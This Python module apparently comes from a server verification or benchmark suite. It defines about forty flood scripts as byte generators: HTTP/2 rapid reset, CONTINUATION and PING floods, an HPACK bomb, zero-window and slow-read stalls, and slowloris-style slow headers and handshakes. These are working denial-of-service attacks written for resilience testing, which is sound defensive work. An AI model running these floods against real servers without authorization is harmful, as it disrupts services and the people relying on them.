"""The floods: what each says on one connection, as octets to send and seconds to wait.

A script is a generator: `bytes` are sent as fast as the other side takes them, a `float` is a pause
in seconds. After its end the connection stays open and is read. The names are those of the flood
table in `docs/verification.md`.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import count, cycle, repeat

from bench.floods import frames
from bench.floods.frames import frame, headers, request, settings, window_update

Script = Iterator[bytes | float]

HIT = b"/v1.0.0/1024.js"
LARGE = b"/v1.0.0/1048576.js"
_POST = b"\x83"
_BATCH = 64
_HELLO_PART = bytes.fromhex("160301 0200 01 0001fc 0303")  # of a ClientHello that never ends
_serial = count()


@dataclass(frozen=True, slots=True)
class Attack:
    """One flood; `protocol` is `h2`, `http/1.1`, `tcp` (no TLS at all) or `key-update`."""

    name: str
    script: Callable[[], Script]
    connections: int = 8
    protocol: str = "h2"
    reads: bool = True
    holds: bool = True  # on to its connections; else each ends with its script


def _ids() -> Iterator[int]:
    return iter(range(1, 2**31, 2))


def _begin(*pairs: tuple[int, int]) -> bytes:
    return frames.PREFACE + settings(*pairs) + frame(frames.SETTINGS, 1, 0)


def _forever(part: bytes, *before: bytes) -> Script:
    """Send the same again and again, many at a time."""
    yield _begin()
    yield from before
    yield from repeat(part * max(1, 16_384 // len(part)))


def _each_stream(make: Callable[[int], bytes], *pairs: tuple[int, int]) -> Script:
    """Send what `make` says about one stream after another."""
    yield _begin(*pairs)
    ids = _ids()
    while True:
        yield b"".join(make(next(ids)) for _ in range(_BATCH))


def _miss() -> bytes:
    return request(b"/v1.0.0/%d/100.js" % next(_serial))


def _upload(path: bytes = b"/upload") -> bytes:
    return headers(1, request(path, method=_POST), end=False)


def _reset(stream: int) -> bytes:
    return frame(frames.RST_STREAM, 0, stream, b"\0\0\0\x08")


def _table() -> bytes:
    """Insert a field of one octet, for blocks that name it again and again."""
    return headers(1, request(HIT) + b"\x40\x01a\x00")


def _endless_block(part: bytes) -> Script:
    yield _begin()
    yield frame(frames.HEADERS, 0, 1, request(HIT))
    yield from repeat(frame(frames.CONTINUATION, 0, 1, part) * _BATCH)


def _bomb() -> Script:
    yield _begin()
    yield headers(1, request(HIT) + b"\x40\x01a" + frames.string(b"x" * 3900))
    yield from _after(lambda n: headers(n, request(HIT) + b"\xbe" * 12_000))


def _after(make: Callable[[int], bytes]) -> Script:
    ids = _ids()
    next(ids)
    while True:
        yield make(next(ids))


def _tiny_indexed() -> Script:
    yield _begin((frames.INITIAL_WINDOW_SIZE, 0)) + _table()
    yield from _after(lambda n: headers(n, request(LARGE) + b"\xbe" * 100))


def _one_byte_window() -> Script:
    yield _begin((frames.INITIAL_WINDOW_SIZE, 1))
    yield b"".join(headers(n, request(LARGE)) for n in range(1, 201, 2))
    for stream in cycle(range(1, 201, 2)):
        yield window_update(stream, 1)


def _many_downloads(window: int) -> Script:
    yield _begin((frames.INITIAL_WINDOW_SIZE, window)) + window_update(0, 2**31 - 70_000)
    yield b"".join(headers(n, request(LARGE)) for n in range(1, 201, 2))


def _downloads() -> Script:
    yield _begin((frames.INITIAL_WINDOW_SIZE, 2**31 - 1)) + window_update(0, 2**31 - 70_000)
    yield from _after(lambda n: headers(n, request(LARGE)))


def _slowly(data: bytes, *before: bytes) -> Script:
    yield from before
    for at in range(len(data)):
        yield data[at : at + 1]
        yield 0.5


def _http1(part: bytes) -> Script:
    yield from repeat(part * max(1, 16_384 // len(part)))


def _once() -> Script:
    yield _begin()


def _connect() -> Script:
    yield from ()


_HEAD = b"GET %b HTTP/1.1\r\nhost: localhost\r\n\r\n"
_MANY_FIELDS = b"".join(frames.literal(b"n%d" % n, b"x" * 100) for n in range(120))

ATTACKS = (
    Attack(
        "rapid reset of misses", lambda: _each_stream(lambda n: headers(n, _miss()) + _reset(n))
    ),
    Attack(
        "rapid reset of hits", lambda: _each_stream(lambda n: headers(n, request(HIT)) + _reset(n))
    ),
    Attack(
        "made to reset: WINDOW_UPDATE 0",
        lambda: _each_stream(lambda n: headers(n, _miss()) + window_update(n, 0)),
    ),
    Attack(
        "made to reset: window overflow",
        lambda: _each_stream(lambda n: headers(n, _miss()) + window_update(n, 2**31 - 1)),
    ),
    Attack("PING", lambda: _forever(frame(frames.PING, 0, 0, bytes(8)))),
    Attack("SETTINGS", lambda: _forever(settings())),
    Attack("large SETTINGS", lambda: _forever(settings(*[(4, 65_535)] * 32))),
    Attack("PRIORITY", lambda: _forever(frame(frames.PRIORITY, 0, 3, bytes(5)))),
    Attack(
        "PRIORITY_UPDATE",
        lambda: _forever(frame(frames.PRIORITY_UPDATE, 0, 0, b"\0\0\0\x09u=1")),
    ),
    Attack("WINDOW_UPDATE", lambda: _forever(window_update(0, 1))),
    Attack("unknown frames", lambda: _forever(frame(0xEE, 0, 0))),
    Attack("large unknown frames", lambda: _forever(frame(0xEE, 0, 0, bytes(16_384)))),
    Attack("empty DATA", lambda: _forever(frame(frames.DATA, 0, 1), _upload())),
    Attack("DATA of one octet", lambda: _forever(frame(frames.DATA, 0, 1, b"x"), _upload())),
    Attack("empty CONTINUATION", lambda: _endless_block(b"")),
    Attack("CONTINUATION", lambda: _endless_block(b"\x84")),
    Attack(
        "header list (431)",
        lambda: _each_stream(lambda n: headers(n, request(HIT) + _MANY_FIELDS[:16_000])),
    ),
    Attack(
        "too many fields (431)",
        lambda: _each_stream(lambda n: headers(n, request(HIT) + b"\x90" * 150)),
    ),
    Attack("HPACK bomb", _bomb),
    Attack(
        "names of no length",
        lambda: _each_stream(lambda n: headers(n, request(HIT) + b"\0\0\0" * 100)),
    ),
    Attack("tiny indexed fields, window 0", _tiny_indexed),
    Attack(
        "too many streams",
        lambda: _each_stream(lambda n: headers(n, request(b"/upload", method=_POST), end=False)),
    ),
    Attack("window 0", lambda: _many_downloads(0), connections=100),
    Attack("window of one octet", _one_byte_window, connections=50),
    Attack("slow read", lambda: _many_downloads(2**31 - 1), connections=100, reads=False),
    Attack("slow preface", lambda: _slowly(frames.PREFACE), connections=500),
    Attack(
        "slow headers",
        lambda: _slowly(headers(1, request(HIT)), _begin()),
        connections=500,
    ),
    Attack(
        "slow headers, HTTP/1.1",
        lambda: _slowly(_HEAD % HIT),
        connections=500,
        protocol="http/1.1",
    ),
    Attack("slow body", lambda: _slowly(bytes(100), _begin() + _upload()), connections=100),
    Attack("slow handshake", lambda: _slowly(_HELLO_PART + bytes(500)), 500, "tcp"),
    Attack("misses", lambda: _each_stream(lambda n: headers(n, _miss()))),
    Attack("misses on many connections", lambda: _each_stream(lambda n: headers(n, _miss())), 50),
    Attack("hits", lambda: _each_stream(lambda n: headers(n, request(HIT)))),
    Attack(
        "hits on many connections", lambda: _each_stream(lambda n: headers(n, request(HIT))), 50
    ),
    Attack("hits, HTTP/1.1", lambda: _http1(_HEAD % HIT), 50, "http/1.1"),
    Attack("downloads", _downloads, 50),
    Attack("KeyUpdate", _once, protocol="key-update"),
    Attack("connections", _connect, connections=200, protocol="tcp", holds=False),
    Attack("handshakes", _once, connections=100, holds=False),
    Attack("idle connections", _once, connections=3000),
)
